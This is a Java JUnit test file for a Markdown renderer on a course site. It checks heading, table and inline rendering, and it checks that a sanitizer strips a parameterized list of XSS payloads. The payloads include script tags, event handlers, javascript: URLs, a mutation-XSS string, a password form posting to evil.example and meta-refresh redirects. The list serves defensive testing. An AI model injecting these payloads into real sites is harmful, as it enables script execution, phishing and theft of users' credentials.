package org.twige.courses;

import static org.assertj.core.api.Assertions.assertThat;

import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTest {

    private static final String[] ALLOWED = {
        "p",
        "br",
        "strong",
        "em",
        "code",
        "blockquote",
        "ul",
        "ol",
        "li",
        "h2",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td"
    };

    private static final String HOSTILE = "<script>alert(1)</script>";

    @Test
    void paragraphs_lists_and_headings_become_html() {
        assertThat(Markdown.blocks("## One\nTwo **three**\n\n- four\n- five").html())
                .isEqualToIgnoringNewLines(
                        "<h2>One</h2><p>Two <strong>three</strong></p><ul><li>four</li><li>five</li></ul>");
    }

    @Test
    void a_table_names_its_columns() {
        assertThat(Markdown.blocks("| a | b |\n|---|---|\n| 1 | 2 |").html())
                .contains("<th scope=\"col\">a</th>", "<td>1</td>");
    }

    @Test
    void a_line_has_no_paragraph_around_it() {
        assertThat(Markdown.line("\"Sick\", **because**").html()).isEqualTo("&#34;Sick&#34;, <strong>because</strong>");
    }

    @Test
    void a_look_is_added_without_touching_the_text() {
        assertThat(Look.dress("<p>a &lt;p&gt; b</p>").html()).isEqualTo("<p class=\"govuk-body\">a &lt;p&gt; b</p>");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                HOSTILE,
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "![x](javascript:alert(1))",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "[x](https://evil.example)",
                "<javascript:alert(1)>",
                "<a href=\"https://evil.example\" onclick=alert(1)>x</a>",
                "<svg/onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<form action=https://evil.example><input name=password></form>",
                "<style>@import 'https://evil.example'</style>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<details open ontoggle=alert(1)>x</details>",
                "<base href=https://evil.example>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "</div></main><h1>Sign in again</h1>",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<!--<img src=x onerror=alert(1)>-->",
                "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
                "```html\n<script>alert(1)</script>\n```",
                "`<script>alert(1)</script>`"
            })
    void nothing_hostile_is_left_whatever_the_author_writes(String hostile) {
        for (var html : new String[] {
            Markdown.blocks(hostile).html(), Markdown.line(hostile).html(), Markdown.clean(hostile)
        }) {
            var body = Jsoup.parseBodyFragment(html).body();

            assertThat(body.children().select("*").not(String.join(",", ALLOWED)))
                    .isEmpty();
            assertThat(body.select("*").stream()
                            .flatMap(element -> element.attributes().asList().stream())
                            .map(attribute -> attribute.getKey()))
                    .isSubsetOf("scope", "start");
        }
    }
}
